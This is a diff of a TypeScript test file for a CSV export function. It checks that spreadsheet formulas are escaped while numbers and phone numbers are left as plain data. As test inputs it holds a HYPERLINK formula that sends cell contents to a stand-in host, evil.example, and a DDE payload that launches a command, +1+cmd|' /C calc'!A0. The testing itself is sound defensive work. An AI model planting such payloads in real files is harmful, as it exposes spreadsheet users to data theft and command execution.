@@ -3,7 +3,7 @@ import { stringify } from 'csv-stringify/sync'
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { pendingRow } from './fold.js'
-import { createResultsCsv, csvColumns, csvField, csvLine, csvRecord, readCsvRecords } from './csv.js'
+import { createResultsCsv, csvColumns, csvField, csvLine, csvRecord, isFormulaText, readCsvRecords } from './csv.js'
 import type { BulkRowRecord } from './types.js'
 
 async function text(stream: Readable): Promise<string> {
@@ -71,10 +71,10 @@ describe('results CSV', () => {
     expect(at({ ...pendingRow(1, 'x'), state: 'error', error: 'INVALID_INPUT: no' })).toBeNull()
   })
 
-  it('escapes formulas: an input like =HYPERLINK(...) never becomes a live formula; negative numbers stay numbers', async () => {
+  it('escapes formulas: an input like =HYPERLINK(...) never becomes a live formula; numbers and phone numbers stay data', async () => {
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     const rows = [
-      ipRow(evil, { ip: '+1', version: 4, location: { lat: -12.25, city: '@SUM(A1)' }, flags: { is_tor: false } }),
+      ipRow(evil, { ip: '+1+cmd|\' /C calc\'!A0', version: 4, location: { lat: -12.25, city: '@SUM(A1)', region: '+12015551000' }, flags: { is_tor: false } }),
       { ...pendingRow(1, '-2+3'), state: 'error' as const, error: 'INVALID_INPUT: cannot parse' },
     ]
     const csv = await text(createResultsCsv('ip', rowsOf(rows)))
@@ -87,7 +87,8 @@ describe('results CSV', () => {
     const first = parsed[1]!
     const cell = (r: string[], c: string) => r[cols.indexOf(c)]
     expect(cell(first, 'input')).toBe(`'${evil}`)
-    expect(cell(first, 'ip')).toBe("'+1")
+    expect(cell(first, 'ip')).toBe("'+1+cmd|' /C calc'!A0")
+    expect(cell(first, 'location.region')).toBe('+12015551000')
     expect(cell(first, 'location.city')).toBe("'@SUM(A1)")
     expect(cell(first, 'location.lat')).toBe('-12.25')
     expect(cell(first, 'flags.is_tor')).toBe('false')
@@ -110,28 +111,50 @@ describe('results CSV', () => {
 })
 
 describe('csvField / csvLine', () => {
-  it('write exactly what csv-stringify writes with escape_formulas (random fields, Unicode, quotes, line breaks, formulas)', () => {
+  it('write exactly what csv-stringify writes, with escape_formulas for the cells that are formulas (random fields, Unicode, quotes, line breaks)', () => {
     const text = fc.oneof(
       fc.string({ unit: 'grapheme' }),
-      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', ' ', '＝', '＋', '－', '＠', 'é') }),
+      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', ' ', '＝', '＋', '－', '＠', 'é', '1', '.') }),
     )
     const field = fc.oneof(text, fc.integer(), fc.double({ noNaN: true }), fc.boolean(), fc.constant(null))
-    const oracle = (fields: unknown[]) => stringify([fields], { escape_formulas: true, cast: { boolean: (v: boolean) => (v ? 'true' : 'false') } })
+    const cast = { boolean: (v: boolean) => (v ? 'true' : 'false') }
+    const oracle = (f: unknown) => stringify([[f]], { escape_formulas: typeof f === 'string' && isFormulaText(f), cast }).slice(0, -1)
     fc.assert(
       fc.property(fc.array(field, { minLength: 1, maxLength: 8 }), (fields) => {
-        expect(csvLine(fields)).toBe(oracle(fields))
+        expect(csvLine(fields)).toBe(`${fields.map(oracle).join(',')}\n`)
       }),
       { numRuns: 2000 },
     )
   })
 
-  it('escapes formulas but leaves numbers alone', () => {
+  it('neutralises formulas: =, @, tab, CR, full-width forms, and + or - unless the cell is only a number or a phone number', () => {
+    for (const formula of ['=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '=1+1', '+A1', '-A1', '\t=1', '\r=1', '＝1+1', '＋12015551000', '+1 201 555 1000+1', '-', '+', '- 1', '+1  2', '+1-', '-1e5+1'])
+      expect([formula, isFormulaText(formula)]).toEqual([formula, true])
+    for (const data of ['+12015551000', '+1 201-555-1000', '+44 20 7946 0958', '+33.1.23.45.67.89', '-12.5', '-0.001', '+3', '-1e-7', '-.5', '12015551000', 'jane@example.com', '(415) 555-0132', ''])
+      expect([data, isFormulaText(data)]).toEqual([data, false])
     expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"')
-    expect(csvField('+14155550100')).toBe("'+14155550100")
+    expect(csvField('+14155550100')).toBe('+14155550100')
+    expect(csvField('+1 415-555-0100')).toBe('+1 415-555-0100')
+    expect(csvField('-2+3')).toBe("'-2+3")
+    expect(csvField('-12.5')).toBe('-12.5')
     expect(csvField(-33.87)).toBe('-33.87')
     expect(csvField('a,b')).toBe('"a,b"')
     expect(csvField(null)).toBe('')
     expect(csvField(false)).toBe('false')
+  })
+
+  it('leaves a cell starting with + or - alone only when it holds nothing a spreadsheet could run (digits, signs, ".", "e", spaces, hyphens)', () => {
+    const alphabet = fc.constantFrom('+', '-', '1', '2', '0', '.', ' ', 'e', 'E', '(', ')', '|', '!', 'A', '"', "'", ',', ':', '=', '@', '&', '*', '/')
+    fc.assert(
+      fc.property(fc.constantFrom('+', '-'), fc.string({ unit: alphabet, maxLength: 20 }), (sign, rest) => {
+        const s = sign + rest
+        if (!isFormulaText(s)) {
+          expect(s).toMatch(/^[+-][0-9.eE+\- ]*$/)
+          expect(csvField(s)).toBe(s)
+        } else expect(csvField(s).replace(/^"/, '').startsWith("'")).toBe(true)
+      }),
+      { numRuns: 5000 },
+    )
   })
 })
 
